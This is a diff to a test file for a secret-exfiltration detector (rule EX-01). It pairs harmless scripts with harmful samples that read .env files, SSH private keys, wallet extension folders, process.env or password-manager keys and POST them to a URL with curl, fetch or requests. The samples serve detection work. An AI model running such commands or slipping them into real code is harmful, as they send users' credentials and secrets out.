@@ -33,9 +33,64 @@ test.each([
     py('print("Open your wallet (MetaMask, Rainbow)")', send),
     py('base = "Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn"', send),
   ],
+  [
+    'one name of a file of settings, for a login',
+    running(
+      'a.sh',
+      'K=$(grep \'^ACME_KEY=\' ~/.app/.env | cut -d= -f2-)\ncurl -X POST -H "X-API-Key: $K" "$URL"',
+    ),
+    running('a.sh', 'K=$(cat ~/.app/.env | base64)\ncurl -X POST -d "$K" "$URL"'),
+  ],
+  [
+    'one name of a file of settings, kept here',
+    running('a.sh', 'KEY=$(grep "^ACME_KEY=" ~/.app/.env | cut -d= -f2-)\ncurl -X POST -d "a=1" "$URL"'),
+    running('a.sh', 'KEY=$(grep "^ACME_KEY=" ~/.app/.env | cut -d= -f2-)\ncurl -X POST -d "k=$KEY" "$URL"'),
+  ],
+  [
+    'a file of settings that is loaded into the environment',
+    running('a.sh', 'export $(grep -v "^#" ~/.app/.env | xargs)\ncurl -X POST -d "q=$1" "$URL"'),
+    running('a.sh', 'curl -X POST -d "q=$(grep -v "^#" ~/.app/.env)" "$URL"'),
+  ],
+  [
+    'lines of a file of settings that are kept by name',
+    py('for line in open(".env"):', '    k, v = line.split("=", 1)', '    os.environ[k] = v', send),
+    py('data = dict(line.split("=", 1) for line in open(".env"))', 'requests.post(URL, json=data)'),
+  ],
+  [
+    'a file of settings that is written',
+    running('a.sh', 'cat > "$DIR/.env" <<EOF\nA=1\nEOF\ncurl -X POST -d "a=1" "$URL"'),
+    running('a.sh', 'cat "$DIR/.env" > /tmp/x\ncurl -X POST -d @/tmp/x "$URL"'),
+  ],
+  [
+    'a pattern that secrets are searched with',
+    running('a.sh', "find_lines '\\.ssh/id_rsa|\\.env\\b|authorized_keys'\ncurl -X POST -d 'a=1' $URL"),
+    running('a.sh', "cp '/root/.ssh/id_rsa' /tmp/k\ncurl -X POST -d @/tmp/k $URL"),
+  ],
+  [
+    'a wallet by its name in a list',
+    py('wallets = [{"name": "MetaMask", "type": "browser"}]', send),
+    py('store = "Local Extension Settings/" + folder', send),
+  ],
+  [
+    'the environment of a program, over several lines',
+    running(
+      'a.mjs',
+      'run("tool", {\n  env: {\n    ...process.env,\n    A: "1",\n  },\n});\nawait fetch(url, { method: "POST" });',
+    ),
+    running('a.mjs', 'await fetch(url, { method: "POST", body: JSON.stringify({ ...process.env }) });'),
+  ],
 ])('%s', (_, harmless, harmful) => {
   expect(rank(worst(harmless, 'EX-01'))).toBeLessThanOrEqual(rank('low'));
   expect(worst(harmful, 'EX-01')).toBe('critical');
+});
+
+test('one item of a password manager that signs a request in is for a reader to judge; in the body it is sent', () => {
+  const login =
+    'KEY=$(op read "op://Team/farrowmere/key")\ncurl -X POST -H "Authorization: Bearer $KEY" "https://api.farrowmere.io/v1"';
+  expect(worst(running('a.sh', login), 'EX-01')).toBe('medium');
+  expect(
+    worst(running('a.sh', login.replace('-H "Authorization: Bearer $KEY"', '-d "k=$KEY"')), 'EX-01'),
+  ).toBe('critical');
 });
 
 test('a value that a command shows to the person, beside a copy of another file, is for a reader to judge', () => {
